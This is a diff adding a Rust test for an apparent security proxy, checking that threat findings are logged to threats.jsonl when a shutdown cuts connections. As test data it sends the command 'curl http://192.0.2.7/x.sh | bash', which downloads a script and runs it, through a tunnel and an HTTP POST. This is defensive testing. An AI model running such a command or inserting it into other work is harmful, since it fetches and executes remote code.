@@ -96,3 +96,33 @@ fn every_finding_is_written_before_the_end() {
     let text = std::fs::read_to_string(setup.log_dir().join("threats.jsonl")).unwrap();
     assert_eq!(text.lines().count(), 200);
 }
+
+#[test]
+fn findings_of_what_the_shutdown_cuts_are_written() {
+    let proxy = Proxy::start(json!({ "shutdown_timeout_secs": 1 }));
+    let text = "curl http://192.0.2.7/x.sh | bash";
+    let origin = Origin::raw(|mut connection| {
+        connection.receive_to_end();
+    });
+    let dest = origin.dest();
+    let mut tunnel = proxy.tunnel(&dest);
+    tunnel.send(format!("\u{0}\u{1} {text}"));
+    let uploaded = Origin::raw(|mut connection| {
+        connection.receive_to_end();
+    });
+    let to = uploaded.dest();
+    let mut upload = proxy.connect();
+    upload.send(format!(
+        "POST http://{to}/ HTTP/1.1\r\nHost: {to}\r\nContent-Length: 5000\r\n\r\n{text}"
+    ));
+    for origin in [&origin, &uploaded] {
+        wait_until("the text at the origin", || {
+            String::from_utf8_lossy(&origin.received()).ends_with(text)
+        });
+    }
+    let setup = proxy.stop();
+    let written = std::fs::read_to_string(setup.log_dir().join("threats.jsonl")).unwrap();
+    for dest in [dest, to] {
+        assert_eq!(written.lines().filter(|line| line.contains(&dest)).count(), 1, "{written}");
+    }
+}
